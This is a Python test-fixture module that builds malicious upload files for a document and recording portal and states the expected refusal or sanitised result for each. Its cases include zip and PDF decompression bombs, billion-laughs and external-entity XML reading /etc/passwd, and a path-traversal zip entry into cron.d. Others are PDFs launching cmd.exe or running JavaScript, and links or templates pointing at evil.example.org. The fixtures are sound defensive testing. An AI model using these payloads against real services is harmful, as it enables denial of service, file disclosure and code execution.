"""Files made to hurt, one a case: what they are, and what must come of them.

A case ends in one of the refusals it names, or (`SAFE`) in something converted in which nothing of
`gone` is left. Everything is made here; nothing hostile is committed.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import partial

import av
from av.video.frame import VideoFrame
from av.video.stream import VideoStream

from portal.files.enums import FileKind
from portal.files.errors import Refusal
from tests.factories import documents as good
from tests.factories.recordings import RECIPES, Recipe, encoded, recording

SAFE = None
AUDIO = frozenset({FileKind.AUDIO})
DOCUMENT = frozenset({FileKind.DOCUMENT})
UNREADABLE, TOO_HEAVY, ACTIVE = Refusal.UNREADABLE, Refusal.TOO_HEAVY, Refusal.ACTIVE
PROTECTED, VIDEO, OLD_WORD = Refusal.PROTECTED, Refusal.VIDEO, Refusal.OLD_WORD
NOT_A_RECORDING, NOT_A_DOCUMENT = Refusal.NOT_A_RECORDING, Refusal.NOT_A_DOCUMENT

SCRIPT = b"app.alert(1)"
PROGRAM = b"MZ\x90\x00 not a real program"


@dataclass(frozen=True)
class Case:
    """`make` returns the bytes; `ends` are the outcomes accepted, None standing for safe."""

    name: str
    kinds: frozenset[FileKind]
    make: Callable[[], bytes]
    ends: frozenset[Refusal | None]
    gone: tuple[bytes, ...] = field(default=())

    def __str__(self) -> str:
        return self.name


def cases() -> Iterator[Case]:
    yield from _truncated()
    for kinds, table in ((AUDIO, _RECORDINGS), (DOCUMENT, _DOCUMENTS)):
        for name, (make, *ends) in table.items():
            yield Case(name, kinds, make, frozenset(ends), _GONE.get(name, ()))


def _truncated() -> Iterator[Case]:
    """Each format, cut at several points: what is left is refused by name, or still good."""
    heard = frozenset({SAFE, UNREADABLE, NOT_A_RECORDING, Refusal.TOO_SHORT})
    for name in _ONE_OF_EACH:
        for part in _CUTS:
            make = partial(cut, partial(recording, name), part)
            yield Case(f"{name} cut at {part} %", AUDIO, make, heard)
    seen = frozenset({SAFE, UNREADABLE, NOT_A_DOCUMENT})
    for name, whole in _WHOLE.items():
        for part in _CUTS:
            yield Case(f"{name} cut at {part} %", DOCUMENT, partial(cut, whole, part), seen)


_CUTS = (3, 45, 92)
_ONE_OF_EACH = (
    "voice.ogg",
    "iphone.m4a",
    "old-phone.3gp",
    "recorder.amr",
    "recorder.mp3",
    "recorder.wav",
    "chrome.webm",
    "android.aac",
)


def cut(make: Callable[[], bytes], percent: int) -> bytes:
    whole = make()
    return whole[: max(1, len(whole) * percent // 100)]


_WHOLE: dict[str, Callable[[], bytes]] = {
    "pdf": lambda: good.pdf(pages=3),
    "docx": good.word,
    "odt": good.open_document,
    "jpg": lambda: good.photo("JPEG"),
    "png": lambda: good.photo("PNG"),
    "heic": lambda: good.photo("HEIF"),
}


# Recordings


def ogg_claiming(seconds: int) -> bytes:
    """The last page says when it ends; its checksum is right."""
    data = bytearray(recording("voice.ogg"))
    last = data.rfind(b"OggS")
    struct.pack_into("<q", data, last + 6, seconds * 48_000)
    struct.pack_into("<I", data, last + 22, 0)
    struct.pack_into("<I", data, last + 22, _ogg_checksum(bytes(data[last:])))
    return bytes(data)


def _ogg_checksum(page: bytes) -> int:
    value = 0
    for byte in page:
        value ^= byte << 24
        for _ in range(8):
            value = (value << 1 ^ 0x04C11DB7 if value & 0x80000000 else value << 1) & 0xFFFFFFFF
    return value


def wav_with(**fields: int) -> bytes:
    """A recording whose header is wrong: `channels`, `rate` or `size`."""
    data = bytearray(recording("recorder.wav"))
    places = {"channels": ("<H", 22), "rate": ("<I", 24), "size": ("<I", data.find(b"data") + 4)}
    for name, value in fields.items():
        layout, place = places[name]
        struct.pack_into(layout, data, place, value)
    return bytes(data)


def endless_amr(frame: bytes) -> bytes:
    """Each frame makes 20 ms of sound: twenty-two minutes, or hours of pauses of one byte each."""
    return b"#!AMR\n" + frame * (1_000_000 // len(frame))


def moving_picture(container: str, encoder: str, *, with_sound: bool) -> bytes:
    out = io.BytesIO()
    with av.open(out, "w", format=container) as file:
        stream = file.add_stream(encoder, rate=10)
        assert isinstance(stream, VideoStream)
        stream.width, stream.height, stream.pix_fmt = 64, 48, "yuv420p"
        sound = file.add_stream("aac", rate=48_000, layout="mono") if with_sound else None
        for rank in range(20):
            frame = VideoFrame(64, 48, "yuv420p")
            frame.pts = rank
            file.mux(stream.encode(frame))
        file.mux(stream.encode(None))
        if sound is not None:
            file.mux(sound.encode(None))
    return out.getvalue()


def mp3_with_cover(picture: bytes) -> bytes:
    """A sound file with a picture in its tag, as music has."""
    body = b"\0image/png\0\x03\0" + picture
    frame = b"APIC" + struct.pack(">IH", len(body), 0) + body
    size = bytes(len(frame) >> shift & 0x7F for shift in (21, 14, 7, 0))
    return b"ID3\x03\0\0" + size + frame + recording("recorder.mp3")


def nested_atoms(depth: int) -> bytes:
    data = b""
    for _ in range(depth):
        data = struct.pack(">I4s", len(data) + 8, b"moov") + data
    return b"\0\0\0\x18ftypM4A \0\0\0\0M4A isom" + data


def m4a_with_many_samples() -> bytes:
    """Its table claims four thousand million sounds."""
    data = bytearray(recording("iphone.m4a"))
    place = data.find(b"stsz")
    struct.pack_into(">I", data, place + 12, 0xFFFFFFFF)
    return bytes(data)


def webm_with_endless_header() -> bytes:
    return b"\x1a\x45\xdf\xa3\x01\xff\xff\xff\xff\xff\xff\xff" + b"\x42\x82\x84webm" * 100_000


def other_sound(container: str, encoder: str) -> bytes:
    return encoded(Recipe(container, encoder, 48_000, ""), 1.0, 0.3)


_PLAYLIST = b"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"

_RECORDINGS: dict[str, tuple[Callable[[], bytes], *tuple[Refusal | None, ...]]] = {
    "nothing": (lambda: b"", Refusal.EMPTY),
    "one byte": (lambda: b"O", NOT_A_RECORDING),
    "an ogg that claims a million seconds": (lambda: ogg_claiming(1_000_000), SAFE),
    "an ogg that claims less than nothing": (lambda: ogg_claiming(-5), SAFE, UNREADABLE),
    "a wav that claims four gigabytes": (lambda: wav_with(size=0xFFFFFFF0), SAFE),
    "a wav that claims to be empty": (
        lambda: wav_with(size=0),
        SAFE,
        UNREADABLE,
        Refusal.TOO_SHORT,
    ),
    "a wav of 65,535 channels": (lambda: wav_with(channels=65_535), UNREADABLE),
    "a wav of no channel": (lambda: wav_with(channels=0), UNREADABLE),
    "a wav of four thousand million samples a second": (
        lambda: wav_with(rate=0xFFFFFFFF),
        UNREADABLE,
    ),
    "a wav of no sample a second": (lambda: wav_with(rate=0), UNREADABLE),
    "twenty-five minutes of telephone": (
        lambda: endless_amr(b"\x04" + bytes(12)),
        Refusal.TOO_LONG,
    ),
    "hours of pauses in a megabyte": (lambda: endless_amr(b"\x7c"), Refusal.TOO_LONG, UNREADABLE),
    "a film without sound": (
        lambda: moving_picture("mp4", "mpeg4", with_sound=False),
        VIDEO,
    ),
    "a film with sound": (lambda: moving_picture("mp4", "mpeg4", with_sound=True), VIDEO),
    "a webm film": (lambda: moving_picture("webm", "libvpx", with_sound=False), VIDEO),
    "an avi film": (lambda: moving_picture("avi", "mpeg4", with_sound=False), VIDEO),
    "a page with a sound behind it": (
        lambda: b"<html><script>alert(1)</script></html>" + recording("recorder.mp3"),
        NOT_A_RECORDING,
    ),
    "a sound with a page in its tag": (
        lambda: encoded(RECIPES["recorder.mp3"], 1.0, 0.3, comment="<script>CANARY</script>"),
        SAFE,
    ),
    "a sound with a flood of pixels in its tag": (
        lambda: mp3_with_cover(png_claiming(60_000, 60_000)),
        SAFE,
        UNREADABLE,
    ),
    "a sound with a zip behind it": (
        lambda: recording("iphone.m4a") + good.zipped({"CANARY": b"CANARY"}),
        SAFE,
    ),
    "a playlist that names our files": (lambda: _PLAYLIST, NOT_A_RECORDING),
    "a playlist behind the beginning of an ogg": (
        lambda: b"OggS" + _PLAYLIST,
        UNREADABLE,
        NOT_A_RECORDING,
    ),
    "a list of files to join": (
        lambda: b"ffconcat version 1.0\nfile /etc/passwd\n",
        NOT_A_RECORDING,
    ),
    "flac": (lambda: other_sound("flac", "flac"), NOT_A_RECORDING),
    "flac in an ogg": (lambda: other_sound("ogg", "flac"), NOT_A_RECORDING),
    "flac in a webm": (lambda: other_sound("matroska", "flac"), NOT_A_RECORDING),
    "a hundred thousand boxes in boxes": (lambda: nested_atoms(100_000), UNREADABLE, TOO_HEAVY),
    "four thousand million sounds in a table": (
        m4a_with_many_samples,
        UNREADABLE,
        TOO_HEAVY,
        SAFE,
    ),
    "a header without end": (webm_with_endless_header, UNREADABLE, TOO_HEAVY),
    "noise behind the beginning of an ogg": (
        lambda: b"OggS" + bytes(range(256)) * 4_000,
        UNREADABLE,
        NOT_A_RECORDING,
    ),
    "noise behind the beginning of an mp3": (
        lambda: b"ID3\x03\0\0\0\0\x10\0" + bytes(range(256)) * 4_000,
        UNREADABLE,
        NOT_A_RECORDING,
        Refusal.TOO_SHORT,
        SAFE,
    ),
    "a program": (lambda: PROGRAM + bytes(1_000), NOT_A_RECORDING),
    "a document named .mp3": (good.word, NOT_A_RECORDING),
    "a photo named .ogg": (lambda: good.photo("JPEG"), NOT_A_RECORDING),
}


# Documents


def png_claiming(width: int, height: int) -> bytes:
    """A PNG of a few hundred bytes that claims any size."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    lines = zlib.compress(bytes(100_000))
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", lines) + chunk(b"IEND", b"")
    )


def png_with_text(size: int) -> bytes:
    """A compressed text of `size` bytes inside."""
    data = good.photo("PNG")
    body = b"comment\0\0" + zlib.compress(bytes(size))
    chunk = struct.pack(">I", len(body)) + b"zTXt" + body
    chunk += struct.pack(">I", zlib.crc32(b"zTXt" + body))
    return data[:33] + chunk + data[33:]


def jpeg_claiming(width: int, height: int) -> bytes:
    data = bytearray(good.photo("JPEG"))
    place = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, place + 5, height, width)
    return bytes(data)


def jpeg_with_comment(comment: bytes) -> bytes:
    data = good.photo("JPEG")
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + data[2:]


def heic_claiming(width: int, height: int) -> bytes:
    data = bytearray(good.photo("HEIF"))
    struct.pack_into(">II", data, data.find(b"ispe") + 8, width, height)
    return bytes(data)


def heic_with_noise() -> bytes:
    data = bytearray(good.photo("HEIF"))
    start = data.find(b"mdat") + 4
    data[start:] = bytes(value * 37 & 0xFF for value in range(len(data) - start))
    return bytes(data)


def pdf_opening(action: bytes) -> bytes:
    return good.pdf(catalogue=b"/OpenAction << %s >>" % action)


def pdf_with_attached_file() -> bytes:
    return good.pdf(
        {
            20: good.stream(PROGRAM, b"/Type /EmbeddedFile"),
            21: b"<< /Type /Filespec /F (run.exe) /EF << /F 20 0 R >> >>",
            22: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 21 0 R >>",
        },
        catalogue=b"/Names << /EmbeddedFiles << /Names [(run.exe) 21 0 R] >> >> /AF [21 0 R]",
        page=b"/Annots [22 0 R]",
    )


def pdf_with_links() -> bytes:
    return good.pdf(
        {
            20: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9]"
            b" /A << /S /URI /URI (javascript:app.alert\\(1\\)) >> >>",
            21: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9]"
            b" /A << /S /SubmitForm /F (https://evil.example.org) >> >>",
            22: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9]"
            b" /A << /S /URI /URI (file:///etc/passwd) >> >>",
        },
        page=b"/Annots [20 0 R 21 0 R 22 0 R]",
    )


def pdf_locked(user: str) -> bytes:
    writer = good.writer(good.pdf())
    writer.encrypt(user, "owner", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_bomb() -> bytes:
    """A page whose drawing is a quarter of a gigabyte of spaces."""
    squeezer = zlib.compressobj(9)
    spaces = b" " * (1 << 20)
    data = b"".join(squeezer.compress(spaces) for _ in range(1 << 8)) + squeezer.flush()
    return good.pdf({4: good.stream(data, b"/Filter /FlateDecode")})


def pdf_of_bombs() -> bytes:
    """The same, squeezed once more for each filter in a chain."""
    data = zlib.compress(zlib.compress(bytes(1 << 28), 9), 9)
    return good.pdf({4: good.stream(data, b"/Filter [/FlateDecode /FlateDecode]")})


def pdf_with_picture(width: int, height: int) -> bytes:
    picture = good.stream(
        zlib.compress(bytes(1_000)),
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray"
        b" /BitsPerComponent 1 /Filter /FlateDecode" % (width, height),
    )
    return good.pdf(
        {20: picture}, resources=b"/XObject << /I 20 0 R >>", content=b"595 0 0 842 0 0 cm /I Do"
    )


def pdf_drawing_itself() -> bytes:
    form = good.stream(
        b"/Me Do /Me Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /Me 20 0 R >> >>",
    )
    return good.pdf({20: form}, resources=b"/XObject << /Me 20 0 R >>", content=b"/Me Do")


def pdf_drawing_doubled(depth: int) -> bytes:
    """Each drawing draws the next one twice: two to the power of `depth`."""
    forms = {
        20 + rank: good.stream(
            b"/N Do /N Do",
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]"
            b" /Resources << /XObject << /N %d 0 R >> >>" % (21 + rank),
        )
        for rank in range(depth)
    }
    last = good.stream(b"0 0 9 9 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    return good.pdf(
        {**forms, 20 + depth: last}, resources=b"/XObject << /N 20 0 R >>", content=b"/N Do"
    )


def pdf_chained(length: int) -> bytes:
    """A chain of objects, each naming the next, longer than a program may call itself."""
    links = {20 + rank: b"<< /Next %d 0 R >>" % (21 + rank) for rank in range(length)}
    return good.pdf({**links, 20 + length: b"<< >>"}, resources=b"/Properties << /P 20 0 R >>")


def docx_with(changes: dict[str, bytes | tuple[bytes, bytes]]) -> bytes:
    return good.rezipped(good.word(), changes)


def docx_leading_to(kind: str, target: str, *, outside: bool) -> bytes:
    mode = "External" if outside else "Internal"
    link = (
        f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}" TargetMode="{mode}"/>'
    )
    return docx_with(
        {"word/_rels/document.xml.rels": (b"</Relationships>", f"{link}</Relationships>".encode())}
    )


def zip_bomb() -> bytes:
    return docx_with({"word/media/bomb.xml": bytes(100 << 20)})


def zip_lying() -> bytes:
    """The directory says a hundred bytes; forty megabytes come out."""
    data = bytearray(docx_with({"word/document.xml": bytes(40 << 20)}))
    place = data.rfind(b"word/document.xml") - 46
    struct.pack_into("<I", data, place + 24, 100)
    return bytes(data)


def zip_of_many() -> bytes:
    return docx_with({f"word/media/{rank}.png": b"" for rank in range(5_000)})


def zip_with_two() -> bytes:
    out = io.BytesIO(good.word())
    with zipfile.ZipFile(out, "a") as file:
        file.writestr("WORD/document.xml", b"<x/>")
    return out.getvalue()


def zip_locked() -> bytes:
    data = bytearray(good.word())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


_LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{rank} '{f'&a{rank - 1};' * 10}'>" for rank in range(1, 12))
    + "]>"
)
_OUTSIDE = "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_OLD_FILE = bytes.fromhex("d0cf11e0a1b11ae1")

_DOCUMENTS: dict[str, tuple[Callable[[], bytes], *tuple[Refusal | None, ...]]] = {
    "nothing at all": (lambda: b"", Refusal.EMPTY),
    "a single byte": (lambda: b"%", NOT_A_DOCUMENT),
    "more than 25 megabytes": (lambda: b"%PDF-1.7" + bytes(26 << 20), Refusal.TOO_BIG),
    "an SVG with a script": (
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
        NOT_A_DOCUMENT,
    ),
    "a page": (lambda: b"<!doctype html><script>alert(1)</script>", NOT_A_DOCUMENT),
    "a program for Windows": (lambda: PROGRAM + bytes(500), NOT_A_DOCUMENT),
    "a program for Linux": (lambda: b"\x7fELF\x02\x01\x01" + bytes(500), NOT_A_DOCUMENT),
    "a picture that is a script": (
        lambda: b"GIF89a=1/*" + bytes(20) + b"*/;alert(1)",
        NOT_A_DOCUMENT,
    ),
    "a zip": (lambda: good.zipped({"run.exe": PROGRAM}), NOT_A_DOCUMENT),
    "a spreadsheet": (
        lambda: docx_with(
            {"[Content_Types].xml": (_MAIN.encode(), b"application/vnd.spreadsheet.main+xml")}
        ),
        NOT_A_DOCUMENT,
    ),
    "an old Word document": (lambda: _OLD_FILE + bytes(2_000), OLD_WORD),
    "a Word document with a password": (
        lambda: _OLD_FILE + bytes(900) + "EncryptedPackage".encode("utf-16-le") + bytes(900),
        PROTECTED,
    ),
    "a rich text": (lambda: rb"{\rtf1\ansi Bonjour}", OLD_WORD),
    "a recording named .pdf": (lambda: recording("iphone.m4a"), NOT_A_DOCUMENT),
    "a photo named .pdf": (lambda: good.photo("JPEG"), SAFE),
    # PDF
    "a pdf that runs a script": (
        lambda: pdf_opening(b"/S /JavaScript /JS (%s)" % SCRIPT.replace(b"(", b"\\(")),
        SAFE,
    ),
    "a pdf with named scripts": (
        lambda: good.pdf(
            {20: b"<< /S /JavaScript /JS 21 0 R >>", 21: good.stream(SCRIPT)},
            catalogue=b"/Names << /JavaScript << /Names [(x) 20 0 R] >> >>",
        ),
        SAFE,
    ),
    "a pdf that starts a program": (
        lambda: pdf_opening(b"/S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >>"),
        SAFE,
    ),
    "a pdf that acts when a page opens": (
        lambda: good.pdf(page=b"/AA << /O << /S /Launch /F (cmd.exe) >> >>"),
        SAFE,
    ),
    "a pdf with a program attached": (pdf_with_attached_file, SAFE),
    "a pdf with wrong links": (pdf_with_links, SAFE),
    "a pdf form with a script": (
        lambda: good.pdf(
            {20: good.stream(b"<xdp><script>CANARY</script></xdp>")},
            catalogue=b"/AcroForm << /XFA 20 0 R /Fields [] >>",
        ),
        SAFE,
    ),
    "a pdf with a password": (lambda: pdf_locked("secret"), PROTECTED),
    "a pdf that may not be changed": (lambda: pdf_locked(""), SAFE),
    "a pdf of 10,000 pages": (lambda: good.pdf(pages=10_000), Refusal.TOO_MANY_PAGES),
    "a pdf that claims two thousand million pages": (
        lambda: good.pdf({2: b"<< /Type /Pages /Count 2147483647 /Kids [10 0 R] >>"}),
        Refusal.TOO_MANY_PAGES,
        UNREADABLE,
        SAFE,
    ),
    "a pdf whose pages contain themselves": (
        lambda: good.pdf({2: b"<< /Type /Pages /Count 1 /Kids [2 0 R] >>"}),
        UNREADABLE,
    ),
    "a pdf without pages": (
        lambda: good.pdf({2: b"<< /Type /Pages /Count 0 /Kids [] >>"}),
        UNREADABLE,
    ),
    "a pdf that draws itself": (pdf_drawing_itself, SAFE, UNREADABLE, TOO_HEAVY),
    "a pdf that draws two to the power of forty times": (
        lambda: pdf_drawing_doubled(40),
        SAFE,
        UNREADABLE,
        TOO_HEAVY,
    ),
    "a pdf of arrays in arrays": (
        lambda: good.pdf({20: b"[" * 200_000}, resources=b"/Properties << /P 20 0 R >>"),
        SAFE,
        UNREADABLE,
        TOO_HEAVY,
    ),
    "a pdf of objects in a chain": (
        lambda: pdf_chained(20_000),
        SAFE,
        UNREADABLE,
        TOO_HEAVY,
    ),
    "a pdf with 256 megabytes in a page": (pdf_bomb, SAFE, UNREADABLE, TOO_HEAVY),
    "a pdf squeezed twice": (pdf_of_bombs, SAFE, UNREADABLE, TOO_HEAVY),
    "a pdf with a flood of pixels": (
        lambda: pdf_with_picture(500_000, 500_000),
        SAFE,
        UNREADABLE,
        TOO_HEAVY,
    ),
    "a pdf page a thousand kilometres wide": (
        lambda: good.pdf(page=b"/MediaBox [0 0 2834645669 1]"),
        SAFE,
        UNREADABLE,
    ),
    "a pdf that is a zip": (lambda: good.pdf() + good.zipped({"CANARY": b"CANARY"}), SAFE),
    "a pdf that is a page": (
        lambda: good.pdf().replace(b"\n", b"\n<script>CANARY</script>\n", 1),
        SAFE,
        UNREADABLE,
    ),
    # DOCX
    "a docx bomb": (zip_bomb, TOO_HEAVY),
    "a docx that lies about its size": (zip_lying, UNREADABLE, TOO_HEAVY),
    "a docx of 5,000 entries": (zip_of_many, TOO_HEAVY),
    "a docx with the same entry twice": (zip_with_two, UNREADABLE),
    "a docx zip with a password": (zip_locked, PROTECTED),
    "a docx that climbs out of its folder": (
        lambda: docx_with({"../../etc/cron.d/x": b"x"}),
        UNREADABLE,
    ),
    "a docx with a thousand million laughs": (
        lambda: docx_with({"word/document.xml": (b"?>\n", f"?>\n{_LAUGHS}".encode())}),
        UNREADABLE,
    ),
    "a docx that reads our files": (
        lambda: docx_with({"word/document.xml": (b"?>\n", f"?>\n{_OUTSIDE}".encode())}),
        UNREADABLE,
    ),
    "a docx with macros": (lambda: docx_with({"word/vbaProject.bin": PROGRAM}), ACTIVE),
    "a docm named .docx": (
        lambda: docx_with({"[Content_Types].xml": (_MAIN.encode(), _MACRO.encode())}),
        ACTIVE,
    ),
    "a docx with a spreadsheet inside": (
        lambda: docx_leading_to("oleObject", "embeddings/x.bin", outside=False),
        ACTIVE,
    ),
    "a docx with a page inside": (
        lambda: docx_leading_to("aFChunk", "afchunk.mht", outside=False),
        ACTIVE,
    ),
    "a docx whose template is elsewhere": (
        lambda: docx_leading_to(
            "attachedTemplate", "https://evil.example.org/x.dotm", outside=True
        ),
        SAFE,
    ),
    "a docx whose picture is elsewhere": (
        lambda: docx_leading_to("image", "https://evil.example.org/x.png", outside=True),
        SAFE,
    ),
    "a docx linking to a program": (
        lambda: docx_leading_to("hyperlink", "file://evil.example.org/x.exe", outside=True),
        SAFE,
    ),
    "a docx without text": (
        lambda: good.zipped({"[Content_Types].xml": f'<T><x ContentType="{_MAIN}"/></T>'.encode()}),
        UNREADABLE,
    ),
    # ODT
    "an odt with a thousand million laughs": (
        lambda: good.open_document("<text:p>&a11;</text:p>", before=_LAUGHS),
        UNREADABLE,
    ),
    "an odt that reads our files": (
        lambda: good.open_document("<text:p>&e;</text:p>", before=_OUTSIDE),
        UNREADABLE,
    ),
    "an odt with macros": (
        lambda: good.open_document(entries={"Basic/Standard/Module1.xml": b"<x/>"}),
        ACTIVE,
    ),
    "an odt with a python script": (
        lambda: good.open_document(entries={"Scripts/python/x.py": b"import os"}),
        ACTIVE,
    ),
    "an odt with an event": (
        lambda: good.open_document(
            '<office:scripts><office:event-listeners><script:event-listener xlink:href="'
            'vnd.sun.star.script:CANARY"/></office:event-listeners></office:scripts>'
            "<text:p>Bonjour</text:p>"
        ),
        SAFE,
    ),
    "an odt whose picture is elsewhere": (
        lambda: good.open_document(
            '<text:p><draw:frame><draw:image xlink:href="https://evil.example.org/x.png"/>'
            "</draw:frame></text:p>"
        ),
        SAFE,
    ),
    "an odt linking to a script": (
        lambda: good.open_document(
            '<text:p><text:a xlink:href="javascript:CANARY">ici</text:a></text:p>'
        ),
        SAFE,
    ),
    "an odt with an object": (
        lambda: good.open_document('<text:p><draw:object xlink:href="./Object 1"/></text:p>'),
        ACTIVE,
    ),
    "an odt with a password": (
        lambda: good.open_document(
            entries={
                "META-INF/manifest.xml": b'<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:'
                b'xmlns:manifest:1.0"><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>'
            }
        ),
        PROTECTED,
    ),
    "an odt of boxes in boxes": (
        lambda: good.open_document("<text:p>" * 100_000 + "</text:p>" * 100_000),
        UNREADABLE,
        TOO_HEAVY,
    ),
    # Photos
    "a png of 5,000 by 50,000": (
        lambda: png_claiming(5_000, 50_000),
        Refusal.TOO_MANY_PIXELS,
    ),
    "a png of a thousand million lines": (
        lambda: png_claiming(1, 1_000_000_000),
        Refusal.TOO_MANY_PIXELS,
    ),
    "a png with less inside than it claims": (lambda: png_claiming(4_000, 4_000), UNREADABLE),
    "a png of no size": (lambda: png_claiming(0, 0), UNREADABLE),
    "a png with a bomb of text": (lambda: png_with_text(200 << 20), UNREADABLE, TOO_HEAVY, SAFE),
    "a jpeg of 65,535 by 65,535": (
        lambda: jpeg_claiming(65_535, 65_535),
        Refusal.TOO_MANY_PIXELS,
    ),
    "a jpeg with a program in its comment": (
        lambda: jpeg_with_comment(b"<?php CANARY ?>"),
        SAFE,
    ),
    "a jpeg with a zip behind it": (
        lambda: good.photo("JPEG") + good.zipped({"CANARY": b"CANARY"}),
        SAFE,
    ),
    "a heic that is noise": (heic_with_noise, UNREADABLE),
    "a heic of 60,000 by 60,000": (
        lambda: heic_claiming(60_000, 60_000),
        Refusal.TOO_MANY_PIXELS,
        UNREADABLE,
    ),
    "a heic of another size than it claims": (
        lambda: heic_claiming(3_000, 3_000),
        UNREADABLE,
        SAFE,
    ),
    "an avif": (
        lambda: good.photo("HEIF").replace(b"heic", b"avif").replace(b"mif1", b"avif"),
        NOT_A_DOCUMENT,
    ),
}

# What must not be found in what was made, whatever the layers of compression.
_GONE: dict[str, tuple[bytes, ...]] = {
    "a sound with a page in its tag": (b"CANARY", b"script"),
    "a sound with a zip behind it": (b"CANARY",),
    "a pdf that runs a script": (b"JavaScript", b"/JS", b"alert", b"OpenAction"),
    "a pdf with named scripts": (b"JavaScript", b"/JS", b"alert", b"/Names"),
    "a pdf that starts a program": (b"Launch", b"cmd.exe", b"OpenAction"),
    "a pdf that acts when a page opens": (b"Launch", b"cmd.exe", b"/AA"),
    "a pdf with a program attached": (b"EmbeddedFile", b"run.exe", PROGRAM, b"/AF"),
    "a pdf with wrong links": (b"javascript", b"SubmitForm", b"evil", b"passwd"),
    "a pdf form with a script": (b"CANARY", b"XFA", b"AcroForm"),
    "a pdf that may not be changed": (b"/Encrypt",),
    "a pdf that is a zip": (b"CANARY", b"PK\x03\x04"),
    "a pdf that is a page": (b"CANARY", b"script"),
    "a docx whose template is elsewhere": (b"evil",),
    "a docx whose picture is elsewhere": (b"evil",),
    "a docx linking to a program": (b"evil",),
    "an odt with an event": (b"CANARY", b"scripts"),
    "an odt whose picture is elsewhere": (b"evil",),
    "an odt linking to a script": (b"CANARY",),
    "a jpeg with a program in its comment": (b"CANARY",),
    "a jpeg with a zip behind it": (b"CANARY", b"PK\x03\x04"),
}
